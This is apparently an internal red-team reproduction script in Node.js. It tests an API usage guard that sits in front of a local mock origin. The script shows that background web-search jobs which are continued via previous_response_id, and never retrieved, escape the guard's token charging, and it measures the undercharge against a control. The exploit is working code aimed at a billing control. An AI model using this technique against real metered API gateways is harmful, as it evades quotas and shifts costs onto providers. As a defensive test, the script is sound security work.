// Self-contained (Node built-ins only). Needs the guard on PORT (8971) in front of round 80's scripted
// origin (origin.mjs on ORIGIN_PORT, 8973), as run.sh starts them; the admin token is the measuring instrument.
import { readFileSync } from "node:fs";
const PORT = process.env.PORT || 8971, ORIGIN = `http://127.0.0.1:${process.env.ORIGIN_PORT || 8973}`;
const BASE = `http://127.0.0.1:${PORT}`;
const ADMIN = process.env.GUARD_ADMIN_TOKEN || /GUARD_ADMIN_TOKEN=(\S+)/.exec(readFileSync(new URL("../../.dev.vars", import.meta.url), "utf8"))[1];
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
async function admin(method, path, body) { const r = await fetch(BASE + path, { method, headers: { authorization: `Bearer ${ADMIN}`, "content-type": "application/json" }, body: body ? JSON.stringify(body) : undefined }); return r.json(); }
async function setup(key, ov) { const { keyId } = await admin("POST", "/admin/keys/lookup", { key }); await admin("PUT", `/admin/keys/${keyId}/overrides`, ov); return keyId; }
async function tpdUsed(id) { const s = await admin("GET", `/admin/keys/${id}`); const u = s.usage.find((x) => x.name === "tpd"); return u.quota - u.remaining; }
async function call(key, method, path, body, headers = {}) {
  const h = { authorization: `Bearer ${key}`, ...headers }; if (body !== undefined) h["content-type"] = "application/json";
  const r = await fetch(BASE + path, { method, headers: h, body: body === undefined ? undefined : JSON.stringify(body) });
  const text = await r.text(); let json; try { json = JSON.parse(text); } catch {} return { status: r.status, text, json };
}
// billed by the origin for one key, in tokens: input + output + hosted calls at the guard's default
// ratio (a web search $10/1,000 at $4 per million tokens = 2,500 tokens)
async function billed(key) { const l = (await (await fetch(`${ORIGIN}/ledger`)).json())[key]; return l ? { tokens: l.input + l.output + 2500 * l.searches, searches: l.searches, requests: l.requests } : { tokens: 0, searches: 0, requests: 0 }; }
try { await fetch(`${ORIGIN}/ledger`); } catch { console.log(`round 80's origin does not answer on ${ORIGIN} (sh redteam/round80/run.sh starts it)`); console.log("not reproduced"); process.exit(0); }
const RUN = Date.now().toString(36);
// R80-2: a background Responses job with a hosted tool (web search) is charged at its POST only its
// input estimate and output cap; its searches and the input they add are charged when its answer is
// read (GET /v1/responses/{id}, a cancel). A client that never reads it and instead continues it
// (previous_response_id: the origin puts the job's whole output, search results included, into the
// next turn) is charged the continuation's tokens: the job's searches are never counted.
const JOBS = 5, SEARCHES = 10;
const A = `sk-r80-2-${RUN}`, C = `sk-r80-2c-${RUN}`;
const ida = await setup(A, { tpd: 400000, tpm: null, rpm: null }), idc = await setup(C, { tpd: 400000, tpm: null, rpm: null });
const job = { model: "gpt-4.1", input: `Research the topic; search ${SEARCHES} times and cite every source.`, tools: [{ type: "web_search" }], background: true, max_output_tokens: 40 };
for (let i = 0; i < JOBS; i++) {
  const a = await call(A, "POST", "/v1/responses", job);
  const n = await call(A, "POST", "/v1/responses", { model: "gpt-4.1", previous_response_id: a.json.id, input: "Repeat your previous answer with all its sources.", max_output_tokens: 40 });
  const c = await call(C, "POST", "/v1/responses", job);
  const g = await call(C, "GET", `/v1/responses/${c.json.id}`);
  if (a.status !== 200 || n.status !== 200 || g.status !== 200) console.log("status", a.status, n.status, g.status, n.text.slice(0, 200));
}
await sleep(4000);
const [ca, cc, ba, bc] = [await tpdUsed(ida), await tpdUsed(idc), await billed(A), await billed(C)];
console.log(`attack  (job continued, never retrieved): ${JOBS} jobs, origin billed ${ba.tokens} tokens (${ba.searches} searches), guard charged ${ca} (${(ba.tokens / Math.max(ca, 1)).toFixed(1)}x under)`);
console.log(`control (job retrieved with GET):         ${JOBS} jobs, origin billed ${bc.tokens} tokens (${bc.searches} searches), guard charged ${cc}`);
console.log(ca < ba.tokens / 2 && cc > bc.tokens * 0.9 ? "REPRODUCED" : "not reproduced");
